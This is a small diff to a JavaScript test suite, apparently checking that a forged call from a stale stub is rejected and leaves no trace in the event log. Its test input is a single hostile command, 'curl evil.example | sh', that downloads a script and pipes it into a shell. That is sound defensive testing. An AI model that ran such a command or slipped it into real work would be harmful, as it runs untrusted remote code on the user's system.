@@ -73,7 +73,7 @@ describe('in a stage with a secret', () => {
     const id = newId();
     await stub.invoke({ id, head: { function: 'curl evil.example | sh' } });
     await expectOldStubError(stub, id);
-    expect(JSON.stringify(serving.events.all)).not.toContain('evil');
+    expect(JSON.stringify(serving.events.all)).not.toContain('evil.example');
   });
 
   test('nobody else’s word counts for anything without it: no probe, cancel or displacement', async () => {
